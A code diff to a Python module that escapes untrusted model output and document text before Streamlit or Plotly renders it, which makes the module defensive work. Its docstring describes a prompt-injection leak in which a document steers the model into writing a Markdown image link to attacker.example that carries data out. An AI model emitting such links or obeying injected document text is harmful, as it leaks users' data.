@@ -1,5 +1,9 @@
 """Untrusted text (model output, document text and names, eval questions) as Markdown that shows it literally.
 
+`literal` is the one way such text reaches a page: every st.markdown, alert, caption, label, help, spinner and progress
+text that carries a value passes it through here (tests/test_untrusted_text.py checks the source of every page;
+tests/test_browser_hostile.py checks what Chromium gets on every page).
+
 Streamlit renders `st.markdown`, alert bodies, captions and widget labels as GitHub Markdown. A document can steer
 the model into writing `![x](https://attacker.example/?q=…)`, and the browser then fetches that URL: data leaves
 the machine (OWASP LLM02). Measured in Chromium on Streamlit 1.67 (tests/test_output_safety.py):
@@ -14,12 +18,14 @@ the machine (OWASP LLM02). Measured in Chromium on Streamlit 1.67 (tests/test_ou
 
 from __future__ import annotations
 
+import html
 import re
 
 WORD_JOINER = "\u2060"
 _ACTIVE = re.compile(r"([\\`*_{}\[\]()<>#+\-!|~$&=:])")
 _LIST_NUMBER = re.compile(r"^(\s*\d+)\.", re.M)  # "1. " opens an ordered list
-_AUTOLINK = re.compile(r"(?<=:)(?=//)|(?<=\bwww)(?=\.)|(?<=@)", re.I)
+# GFM starts a www autolink after a space, `*`, `_`, `~` or `(`: "_www.host" was a link with `\b` in front of www
+_AUTOLINK = re.compile(r"(?<=:)(?=//)|(?<=www)(?=\.)|(?<=@)", re.I)
 
 
 def literal(text: str) -> str:
@@ -31,3 +37,9 @@ def literal(text: str) -> str:
     escaped = _LIST_NUMBER.sub(r"\1\\.", _ACTIVE.sub(r"\\\1", unlinked))
     return escaped.replace("\n", "  \n")
 
+
+
+def chart_literal(text: str) -> str:
+    """Untrusted text for a Plotly label or hover: Plotly renders a subset of HTML there (`<a href>` becomes a link),
+    so `<`, `>` and `&` are escaped as entities, which it shows as the characters themselves."""
+    return html.escape(text, quote=False)
